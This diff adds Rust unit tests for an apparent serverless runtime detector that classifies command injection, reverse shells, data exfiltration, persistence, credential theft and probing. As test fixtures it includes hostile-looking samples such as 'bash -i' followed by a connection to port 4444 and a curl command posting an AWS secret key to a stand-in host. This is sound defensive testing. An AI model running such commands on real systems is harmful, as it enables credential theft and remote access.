@@ -1,0 +1,290 @@
+use super::*;
+use crate::features::idx;
+use crate::features::VECTOR_VERSION;
+use crate::schema::Class;
+use crate::testing::{endpoint, left_running, process, record, with};
+
+fn detector() -> Detector {
+    let cfg = DetectorConfig {
+        function_name: "orders".into(),
+        function_version: "7".into(),
+        ..DetectorConfig::default()
+    };
+    Detector::new(cfg, Arc::new(Health::default()), 1_000)
+}
+
+fn warmed() -> Detector {
+    let mut d = detector();
+    for seq in 1..=30 {
+        assert_eq!(
+            d.record(&record(seq), 0),
+            None,
+            "benign {seq} raised a finding"
+        );
+    }
+    assert!(d.baseline().warmed_up());
+    d
+}
+
+#[test]
+fn benign_invocations_raise_nothing() {
+    let mut d = warmed();
+    for seq in 31..300 {
+        assert_eq!(d.record(&record(seq), 0), None, "benign {seq}");
+    }
+}
+
+#[test]
+fn a_shell_is_reported_in_real_time_once() {
+    let mut d = warmed();
+    let shell = process(40, "/usr/bin/dash", "sh -c id");
+    let f = d
+        .observe(Some("req-31"), &shell, 5)
+        .expect("real-time finding");
+    assert!(f.realtime);
+    assert_eq!(f.class, Class::CommandInjection);
+    assert_eq!(f.request_id.as_deref(), Some("req-31"));
+    assert_eq!(f.time_unix_ms, 5);
+    assert_eq!(f.explanation[0].feature, "shells_spawned");
+    assert_eq!(f.evidence, vec![shell.clone()]);
+    assert_eq!(d.observe(Some("req-31"), &shell, 6), None);
+    // The record adds nothing new: no second finding.
+    let r = with(record(31), shell);
+    assert_eq!(d.record(&r, 7), None);
+    // The next invocation reports its own shell again.
+    let again = process(41, "/usr/bin/dash", "sh -c id");
+    assert!(d.observe(Some("req-32"), &again, 8).is_some());
+}
+
+#[test]
+fn a_connection_after_the_shell_is_a_reverse_shell() {
+    let mut d = warmed();
+    let first = d.observe(Some("r"), &process(40, "/bin/bash", "bash -i"), 1);
+    assert!(first.is_some());
+    let f = d
+        .observe(Some("r"), &endpoint("10.9.9.9:4444"), 2)
+        .expect("finding");
+    assert_eq!(f.class, Class::ReverseShell);
+    assert_eq!(f.related, vec![first.map(|f| f.id).unwrap_or_default()]);
+    assert_eq!(f.evidence.len(), 2);
+}
+
+#[test]
+fn egress_is_found_at_the_end_with_an_explanation() {
+    let mut d = warmed();
+    let mut r = with(record(31), endpoint("10.9.9.9:8443"));
+    r.counters.net_tx_bytes = 5_000_000;
+    assert_eq!(
+        d.observe(Some("req-31"), &endpoint("10.9.9.9:8443"), 1),
+        None
+    );
+    let f = d.record(&r, 2).expect("finding");
+    assert!(!f.realtime);
+    assert_eq!(f.class, Class::ExfiltrationEgress);
+    let top = &f.explanation[0];
+    assert_eq!(top.feature, "net_tx_bytes");
+    assert_eq!(top.observed, 5_000_000.0);
+    let [lo, hi] = top.normal.expect("warmed up");
+    assert!(
+        lo < 20_000.0 && hi > 25_000.0 && hi < 1_000_000.0,
+        "{lo}..{hi}"
+    );
+    assert!(top.z.is_some_and(|z| z > 5.0));
+    assert!(f.evidence.contains(&endpoint("10.9.9.9:8443")));
+    let sum: f32 = f.explanation.iter().map(|e| e.contribution).sum();
+    assert!(sum <= f.score + 0.01);
+}
+
+#[test]
+fn left_running_is_persistence() {
+    let mut d = warmed();
+    let obs = left_running(50, "/usr/bin/sleep", "sleep 300");
+    let f = d.observe(Some("req-31"), &obs, 1).expect("finding");
+    assert_eq!(f.class, Class::Persistence);
+}
+
+#[test]
+fn anomalies_are_not_learned() {
+    let mut d = warmed();
+    let learned = d.baseline().learned();
+    let mut r = record(31);
+    r.counters.net_tx_bytes = 50_000_000;
+    assert!(d.record(&r, 0).is_some());
+    assert_eq!(d.baseline().learned(), learned);
+    // A program seen only in a flagged invocation stays unfamiliar.
+    let r = with(record(32), process(9, "/tmp/x", "/tmp/x"));
+    assert!(d.record(&r, 0).is_some());
+    assert!(d
+        .record(&with(record(33), process(9, "/tmp/x", "/tmp/x")), 0)
+        .is_some());
+}
+
+/// 1,000 invocations whose egress grows a little each time cannot teach the detector that a
+/// 50 MB upload is normal.
+#[test]
+fn poisoning_by_slowly_growing_egress_fails() {
+    let mut d = warmed();
+    let mut found = 0;
+    for i in 0..1_000u64 {
+        let mut r = record(31 + i);
+        r.counters.net_tx_bytes = (20_000.0 * 1.004f64.powi(i as i32)) as u64;
+        found += usize::from(d.record(&r, 0).is_some());
+    }
+    let mut r = record(2_000);
+    r.counters.net_tx_bytes = 50_000_000;
+    let f = d.record(&r, 0).expect("50 MB exfiltration found");
+    assert_eq!(f.class, Class::ExfiltrationEgress);
+    assert!(found < 1_000, "the slow growth itself was not all flagged");
+}
+
+#[test]
+fn findings_serialise_as_one_json_object() {
+    let mut d = warmed();
+    let obs = process(
+        40,
+        "/usr/bin/curl",
+        "curl -d AWS_SECRET_ACCESS_KEY=abc123 http://x/",
+    );
+    let f = d.observe(Some("req-31"), &obs, 1).expect("finding");
+    let text = serde_json::to_string(&f).expect("serialises");
+    assert!(text.starts_with("{\"warden_finding\":1,"));
+    assert!(!text.contains("abc123"));
+    let v: serde_json::Value = serde_json::from_str(&text).expect("json");
+    assert_eq!(v["class"], "credential_theft");
+    assert_eq!(v["severity"], "critical");
+    assert_eq!(v["realtime"], true);
+    assert_eq!(v["actions"], serde_json::json!([]));
+    assert_eq!(v["feature_schema"], 1);
+    assert_eq!(v["vector_version"], VECTOR_VERSION);
+    assert_eq!(v["function_name"], "orders");
+    assert!(v["indicators"]
+        .as_array()
+        .is_some_and(|a| a.contains(&serde_json::json!("credential_access"))));
+    let back: Finding = serde_json::from_str(&text).expect("round trip");
+    assert_eq!(back, f);
+}
+
+#[test]
+fn init_records_and_unknown_requests_are_ignored() {
+    let mut d = detector();
+    let mut r = record(0);
+    r.kind = RecordKind::Init;
+    assert_eq!(d.record(&r, 0), None);
+    assert_eq!(d.observe(None, &process(1, "/bin/sh", "sh"), 0), None);
+}
+
+/// A model that always names one class.
+struct Fixed;
+
+impl Scorer for Fixed {
+    fn score(&self, _raw: &[f32; N], _z: &[f32; N]) -> ModelOutput {
+        ModelOutput {
+            class: Some((crate::schema::Class::CryptoMining, 0.9)),
+            anomaly: 0.2,
+            contributions: vec![(idx::CPU_MS, 1.0)],
+        }
+    }
+}
+
+#[test]
+fn a_model_is_used_when_given_and_its_absence_is_counted() {
+    let health = Arc::new(Health::default());
+    let mut d = Detector::new(DetectorConfig::default(), health.clone(), 0);
+    assert_eq!(d.record(&record(1), 0), None);
+    assert_eq!(health.get(Counter::ScoredWithoutModel), 1);
+    let mut d = d.with_scorer(Some(Arc::new(Fixed)));
+    let f = d.record(&record(2), 0).expect("the model alarms");
+    assert_eq!(f.class, Class::CryptoMining);
+    assert_eq!(f.explanation[0].feature, "cpu_ms");
+    assert!(f.model.is_some_and(|m| m.probability == 0.9));
+    assert_eq!(health.get(Counter::ScoredWithoutModel), 1);
+}
+
+#[test]
+fn an_error_is_probing_only_as_part_of_a_burst() {
+    let mut d = Detector::new(DetectorConfig::default(), Arc::new(Health::default()), 0);
+    for seq in 1..=30 {
+        d.record(&record(seq), 0);
+    }
+    for seq in [31, 37, 43] {
+        assert!(d.record(&error(seq), 0).is_none(), "scattered error {seq}");
+        for ok in seq + 1..seq + 6 {
+            d.record(&record(ok), 0);
+        }
+    }
+    assert!(d.record(&error(50), 0).is_none());
+    d.record(&record(51), 0);
+    assert!(d.record(&error(52), 0).is_none());
+    let f = d
+        .record(&error(53), 0)
+        .expect("a third error in five is a burst");
+    assert_eq!(f.class, Class::Probing);
+    assert!(f.indicators.contains(&Indicator::ErrorBurst));
+    assert_eq!(f.earlier_requests, ["req-50", "req-52"]);
+    let next = d.record(&error(54), 0).expect("the burst goes on");
+    assert!(next.earlier_requests.is_empty(), "named once");
+}
+
+fn error(seq: u64) -> FeatureRecord {
+    let mut r = record(seq);
+    r.status = crate::schema::Status::Error;
+    r
+}
+
+/// A model that calls everything probing.
+struct SaysProbing;
+
+impl Scorer for SaysProbing {
+    fn score(&self, _raw: &[f32; N], _z: &[f32; N]) -> ModelOutput {
+        ModelOutput {
+            class: Some((Class::Probing, 0.99)),
+            anomaly: 0.9,
+            contributions: vec![(idx::STATUS_ERROR, 1.0)],
+        }
+    }
+}
+
+#[test]
+fn a_lone_error_the_model_calls_probing_is_held_until_a_burst_names_it() {
+    let mut d = Detector::new(DetectorConfig::default(), Arc::new(Health::default()), 0)
+        .with_scorer(Some(Arc::new(SaysProbing)));
+    assert!(d.record(&error(1), 0).is_none(), "held");
+    d.record(&record(2), 0);
+    d.record(&record(3), 0);
+    d.record(&record(4), 0);
+    d.record(&record(5), 0);
+    d.record(&record(6), 0);
+    assert!(
+        d.record(&error(7), 0).is_none(),
+        "the first error left the window"
+    );
+    assert!(d.record(&error(8), 0).is_none());
+    let f = d.record(&error(9), 0).expect("burst");
+    assert_eq!(f.class, Class::Probing);
+    assert_eq!(f.earlier_requests, ["req-7", "req-8"]);
+}
+
+#[test]
+fn memory_an_earlier_invocation_raised_is_not_blamed_on_the_next() {
+    let mut d = Detector::new(DetectorConfig::default(), Arc::new(Health::default()), 0);
+    for seq in 1..=40 {
+        assert_eq!(d.record(&record(seq), 0), None);
+    }
+    let big = |seq: u64| {
+        let mut r = record(seq);
+        r.platform.max_memory_used_mb = Some(400);
+        r.gauges.rss_kb = 300_000;
+        r
+    };
+    let f = d
+        .record(&big(41), 0)
+        .expect("the invocation that raised memory");
+    assert!(f
+        .explanation
+        .iter()
+        .any(|e| e.feature == "max_memory_used_mb" || e.feature == "rss_kb"));
+    assert_eq!(d.record(&big(42), 0), None, "it stayed up, nothing new");
+    let mut higher = big(43);
+    higher.platform.max_memory_used_mb = Some(800);
+    assert!(d.record(&higher, 0).is_some(), "raised again");
+}
